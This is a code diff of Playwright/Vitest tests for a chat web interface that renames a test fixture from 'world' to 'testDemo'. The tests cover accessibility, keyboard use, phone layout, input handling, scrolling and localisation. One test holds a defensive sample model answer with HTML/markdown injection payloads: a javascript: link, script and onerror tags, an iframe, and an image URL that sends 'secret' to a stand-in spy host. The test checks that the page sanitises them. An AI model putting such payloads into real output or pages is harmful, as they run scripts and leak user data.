@@ -4,14 +4,14 @@ import { afterAll, afterEach, beforeAll, expect, test } from 'vitest'
 import { readPage } from './support/chat-page.ts'
 import { snap } from './support/snap.ts'
 import { violations } from './support/violations.ts'
-import { openWorld, type World } from './support/world.ts'
+import { openTestDemo, type TestDemo } from './support/test-demo.ts'
 
-let world: World
+let testDemo: TestDemo
 beforeAll(async () => {
-  world = await openWorld()
+  testDemo = await openTestDemo()
 })
-afterAll(() => world[Symbol.asyncDispose]())
-afterEach(() => world.leave())
+afterAll(() => testDemo[Symbol.asyncDispose]())
+afterEach(() => testDemo.leave())
 
 // A picture of one pixel.
 const DOT =
@@ -33,7 +33,7 @@ const wide = "a line of code that is much too long for the screen of a phone and
 \`\`\``
 
 beforeAll(() => {
-  world.answer('all you can', () => [
+  testDemo.answer('all you can', () => [
     { type: 'think', text: 'Let me look.' },
     { type: 'say', text: RICH },
     { type: 'image', mimeType: 'image/png', data: DOT },
@@ -42,7 +42,7 @@ beforeAll(() => {
 })
 
 test.each(['light', 'dark'] as const)('[DM26] axe finds nothing to mend, in %s', async (scheme) => {
-  const page = await world.visit({ colorScheme: scheme })
+  const page = await testDemo.visit({ colorScheme: scheme })
   const { say, tool, alert, idle, log } = readPage(page)
   await page.getByText('What would you like to do?').waitFor()
   expect(await violations(page)).toEqual([])
@@ -69,7 +69,7 @@ test.each(['light', 'dark'] as const)('[DM26] axe finds nothing to mend, in %s',
 })
 
 test('[DM26] everything can be done by keyboard', async () => {
-  const page = await world.visit()
+  const page = await testDemo.visit()
   const { log, tool, input, answer, stop, idle, say } = readPage(page)
   const focused = () =>
     page.evaluate(() => {
@@ -108,7 +108,7 @@ test('[DM26] everything can be done by keyboard', async () => {
 })
 
 test('[DM27] the page fits a phone', async () => {
-  const page = await world.visit({ ...PHONE, locale: 'ja-JP' })
+  const page = await testDemo.visit({ ...PHONE, locale: 'ja-JP' })
   const { say, log, idle } = readPage(page)
   const overflow = () =>
     page.evaluate(() => {
@@ -135,7 +135,7 @@ test('[DM27] the page fits a phone', async () => {
 })
 
 test('[DM28] Enter sends, Shift+Enter makes a new line', async () => {
-  const page = await world.visit()
+  const page = await testDemo.visit()
   const { input, log } = readPage(page)
   await input.pressSequentially('one')
   await input.press('Shift+Enter')
@@ -149,7 +149,7 @@ test('[DM28] Enter sends, Shift+Enter makes a new line', async () => {
 })
 
 test('[DM28] Enter that accepts a conversion does not send', async () => {
-  const page = await world.visit()
+  const page = await testDemo.visit()
   const { input, log } = readPage(page)
   await input.focus()
   const browser = await page.context().newCDPSession(page)
@@ -169,7 +169,7 @@ test('[DM28] Enter that accepts a conversion does not send', async () => {
 })
 
 test('[DM29] a chunk renders the message it belongs to, no other, and nothing around them', async () => {
-  const page = await world.visit()
+  const page = await testDemo.visit()
   const { say, answer, idle, log } = readPage(page)
   await say('[[say The first answer.]]')
   await answer(0).getByText('The first answer.').waitFor()
@@ -182,7 +182,7 @@ test('[DM29] a chunk renders the message it belongs to, no other, and nothing ar
   const around = ['.composer', '.top-bar', '.panel-start > *', '.chat-link']
   const watched = [answer(0), answer(1), ...around.map((each) => page.locator(each).first())]
   const before = await Promise.all(watched.map(propsOf))
-  world.emulator.release('render')
+  testDemo.emulator.release('render')
   await log.getByText('nine ten').waitFor()
   const kept = await Promise.all(
     watched.map((element, index) =>
@@ -190,12 +190,12 @@ test('[DM29] a chunk renders the message it belongs to, no other, and nothing ar
     ),
   )
   expect(kept).toEqual([true, false, ...around.map(() => true)])
-  world.emulator.release('rendered')
+  testDemo.emulator.release('rendered')
   await idle()
 })
 
 test('[DM30] follows the answer until the reader scrolls up, and again at the end', async () => {
-  const page = await world.visit({ viewport: { width: 800, height: 500 } })
+  const page = await testDemo.visit({ viewport: { width: 800, height: 500 } })
   const { say, answer, idle } = readPage(page)
   const distance = () =>
     page.locator('.scroller').evaluate((e) => e.scrollHeight - e.clientHeight - e.scrollTop)
@@ -209,19 +209,19 @@ test('[DM30] follows the answer until the reader scrolls up, and again at the en
   await page.mouse.wheel(0, -600)
   await page.getByRole('button', { name: 'Go to the latest message' }).waitFor()
   const top = await page.locator('.scroller').evaluate((element) => element.scrollTop)
-  world.emulator.release('up')
+  testDemo.emulator.release('up')
   await answer().getByText('second 29').waitFor({ state: 'attached' })
   expect(await page.locator('.scroller').evaluate((element) => element.scrollTop)).toBe(top)
 
   await page.getByRole('button', { name: 'Go to the latest message' }).click()
-  world.emulator.release('down')
+  testDemo.emulator.release('down')
   await answer().getByText('third 29').waitFor()
   await idle()
   await expect.poll(distance).toBeLessThan(2)
 })
 
 test('[DM31] speaks the language of the browser, or the one the reader chose', async () => {
-  const page = await world.visit({ locale: 'ja-JP' })
+  const page = await testDemo.visit({ locale: 'ja-JP' })
   await page.getByText('何をお手伝いしましょうか？').waitFor()
   expect(await page.getAttribute('html', 'lang')).toBe('ja')
   await page.getByRole('button', { name: '設定' }).click()
@@ -233,15 +233,15 @@ test('[DM31] speaks the language of the browser, or the one the reader chose', a
 })
 
 test('[DM32] an answer cannot run, link or load what it should not', async () => {
-  const page = await world.visit()
+  const page = await testDemo.visit()
   const { say, log, idle } = readPage(page)
   const elsewhere: string[] = []
   page.on('request', (request) => {
-    if (!request.url().startsWith(world.demo.url)) elsewhere.push(request.url())
+    if (!request.url().startsWith(testDemo.demo.url)) elsewhere.push(request.url())
   })
   const answer =
     'Look: [run](javascript:alert(1)) ![spy](https://spy.example/?q=secret) <img src="https://spy.example/2" onerror="window.hacked=1"> <script>window.hacked=1</script> <iframe src="https://spy.example/3"></iframe> [fine](https://example.com) End.'
-  world.answer('be evil', () => [{ type: 'say', text: answer }])
+  testDemo.answer('be evil', () => [{ type: 'say', text: answer }])
   await say('Please be evil')
   await log.getByText('End.').waitFor()
   await idle()
